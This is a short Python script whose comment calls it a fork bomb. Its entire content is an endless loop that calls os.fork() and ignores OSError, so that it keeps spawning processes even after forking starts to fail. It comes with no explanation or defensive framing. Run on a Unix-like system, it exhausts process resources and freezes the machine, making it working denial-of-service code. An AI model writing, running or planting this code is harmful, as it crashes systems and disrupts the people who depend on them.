# A fork bomb that keeps trying when fork fails.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
